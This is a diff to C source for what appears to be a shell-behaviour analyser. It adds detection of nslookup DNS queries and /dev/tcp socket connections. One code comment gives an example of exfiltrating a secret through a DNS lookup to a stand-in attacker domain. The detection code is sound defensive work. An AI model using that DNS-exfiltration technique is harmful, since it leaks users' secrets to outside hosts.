@@ -235,6 +235,31 @@ void tool_fetch(struct call *call)
     }
 }
 
+/* A secret as the name that is asked for: nslookup $key.evil.test. */
+void tool_query(struct call *call)
+{
+    call->out = call_unknown(call, (struct shell_string){0});
+    for (uint32_t i = 1; i < call->count; i++)
+        if (call_arg(call, i).len > 0 && call_arg(call, i).at[0] != '-')
+            sense_send(call, call->arg[i], call_arg(call, i), BEHAVIOUR_E3, "DNS query");
+}
+
+struct shell_fetch *fetch_socket(struct call *call, struct bytes address)
+{
+    struct machine *m = call->m;
+    struct bytes host = address;
+    size_t slash = bytes_find_byte(address, '/', 0);
+    host = slash == BYTES_NPOS ? address : bytes_sub(address, 0, slash);
+    struct shell_fetch *f = arena_new_of(m->arena, struct shell_fetch);
+    f->layer = m->layer, f->line = layer_line(m->arena, m->layer, m->offset);
+    f->tool = BYTES("/dev/tcp"), f->host = string_shown(m->arena, host);
+    f->url = arena_printf(m->arena, "/dev/tcp/%.*s", BYTES_FMT(string_shown(m->arena, address)));
+    f->host_kind = host_kind_of(host), f->insecure = true;
+    if (m->report->fetch_count++ < 1024)
+        *m->report->fetch_end = f, m->report->fetch_end = &f->next;
+    return f;
+}
+
 void tool_nc(struct call *call)
 {
     struct bytes host = call_arg(call, call_operand(call, 1));
